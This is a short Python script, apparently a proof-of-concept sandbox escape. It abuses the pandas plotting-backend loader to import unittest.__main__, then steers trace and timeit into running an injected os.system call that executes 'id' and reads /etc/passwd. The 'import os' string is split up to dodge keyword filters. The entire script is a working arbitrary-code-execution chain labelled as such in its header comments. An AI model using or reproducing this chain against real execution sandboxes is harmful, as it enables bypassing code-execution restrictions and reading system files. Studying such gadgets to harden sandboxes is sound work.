# source: pandas plotting backend loader (_load_backend -> importlib.import_module); unittest/trace/timeit command-line entry points (python -m trace --count script args)
# family: module import by name via pandas plot backend (**opts dict literal); unittest.__main__ -> trace.main() runs timeit.py as script with our statement
# goal: arbitrary code execution: os.system("id; head -3 /etc/passwd")
import sys
import pandas as pd

root = "/data/"[0]
prog = root.join(["", "usr", "lib", "python3.11", "timeit.py"])
stmt = "import " + "os;" + "os." + "system('id; head -3 /etc/passwd');1/0"
# unittest: -c (catch) -f (failfast), tests=[trace.main, prog, stmt]
# trace:    -c (count)  -f FILE=trace.main, progname=prog, arguments=[stmt]
sys.argv.extend(["-c", "-f", "trace.main", prog, stmt])
df = pd.DataFrame({"close": [1.0, 1.5, 2.0]})
opts = {"backend": "unittest.__main__"}
try:
    df.plot.line(**opts)
except (ValueError, TypeError, SystemExit) as e:
    print("done:", str(e)[:120])
